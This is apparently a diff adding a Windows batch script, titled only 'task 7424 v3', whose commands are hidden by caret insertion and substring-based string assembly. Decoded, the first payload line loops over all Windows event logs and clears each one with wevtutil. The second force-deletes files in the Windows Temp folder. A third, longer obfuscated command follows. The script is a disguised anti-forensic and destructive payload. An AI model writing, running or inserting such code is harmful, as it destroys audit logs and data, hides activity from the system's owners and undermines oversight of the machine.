@@ -1,0 +1,10 @@
+REM task 7424 v3
+@e^ch^o ^o^ff
+set "junl=sx1GhDlc'Re*yfrLFiv)tqOUok9u./n(w"
+%junl:~13,1%%junl:~24,1%%junl:~14,1% %junl:~-4,1%%junl:~16,1% "%junl:~20,1%%junl:~24,1%%junl:~25,1%%junl:~10,1%%junl:~30,1%%junl:~0,1%=%junl:~11,1%" %%%junl:~2,1% %junl:~17,1%%junl:~-3,1% %junl:~31,1%%junl:~8,1%%junl:~32,1%%junl:~10,1%%junl:~18,1%%junl:~20,1%%junl:~27,1%%junl:~20,1%%junl:~17,1%%junl:~6,1%%junl:~-5,1%%junl:~10,1%%junl:~1,1%%junl:~-23,1% %junl:~-23,1%%junl:~-27,1%%junl:~-25,1%%junl:~-14,1% %junl:~-28,1%%junl:~22,1% %junl:~-1,1%%junl:~10,1%%junl:~18,1%%junl:~20,1%%junl:~27,1%%junl:~-13,1%%junl:~17,1%%junl:~-27,1%%junl:~28,1%%junl:~-23,1%%junl:~-32,1%%junl:~10,1% %junl:~-26,1%%junl:~6,1% "%%%junl:~2,1%"
+@^ech^o o^f^f
+s^e^t "rswf=e.w4JO\sdCpyi:nfWlq/TbB1Vmo*"
+%rswf:~8,1%%rswf:~0,1%%rswf:~17,1% %rswf:~-9,1%%rswf:~15,1% %rswf:~19,1%%rswf:~18,1% %rswf:~9,1%%rswf:~-15,1%%rswf:~6,1%%rswf:~16,1%%rswf:~12,1%%rswf:~14,1%%rswf:~8,1%%rswf:~26,1%%rswf:~2,1%%rswf:~7,1%%rswf:~6,1%%rswf:~20,1%%rswf:~-28,1%%rswf:~25,1%%rswf:~10,1%%rswf:~-22,1%%rswf:~27,1%%rswf:~1,1%%rswf:~27,1%
+@echo off
+se^t "djhg=v6n1u.Wq:MzmsfNoDCP85\Ry3tciagdkerl/wI"
+%djhg:~33,1%%djhg:~30,1% %djhg:~35,1%%djhg:~-26,1% %djhg:~35,1%%djhg:~-31,1% %djhg:~17,1%%djhg:~-30,1%%djhg:~21,1%%djhg:~-20,1%%djhg:~-10,1%%djhg:~26,1%%djhg:~31,1%%djhg:~-10,1%%djhg:~29,1%%djhg:~-6,1%%djhg:~12,1%%djhg:~21,1%%djhg:~18,1%%djhg:~34,1%%djhg:~4,1%%djhg:~29,1%%djhg:~27,1%%djhg:~2,1%%djhg:~12,1%%djhg:~21,1%%djhg:~9,1%%djhg:~27,1%%djhg:~-12,1%%djhg:~33,1%%djhg:~-23,1%%djhg:~12,1%%djhg:~-23,1%%djhg:~-25,1%%djhg:~25,1%%djhg:~5,1%%djhg:~17,1%%djhg:~18,1%%djhg:~34,1%%djhg:~-10,1%%djhg:~25,1%%djhg:~-33,1%%djhg:~-21,1%%djhg:~15,1%%djhg:~-5,1%%djhg:~32,1%%djhg:~-33,1%%djhg:~22,1%%djhg:~4,1%%djhg:~2,1%%djhg:~17,1%%djhg:~15,1%%djhg:~-27,1%%djhg:~11,1%%djhg:~-10,1%%djhg:~2,1%%djhg:~30,1%%djhg:~6,1%%djhg:~27,1%%djhg:~-36,1%%djhg:~30,1%%djhg:~15,1%%djhg:~36,1%%djhg:~12,1%%djhg:~-17,1%%djhg:~-35,1%%djhg:~5,1%%djhg:~3,1%%djhg:~-33,1%%djhg:~3,1%%djhg:~20,1%%djhg:~-17,1%%djhg:~16,1%%djhg:~15,1%%djhg:~36,1%%djhg:~2,1%%djhg:~34,1%%djhg:~15,1%%djhg:~28,1%%djhg:~-8,1%%djhg:~12,1%
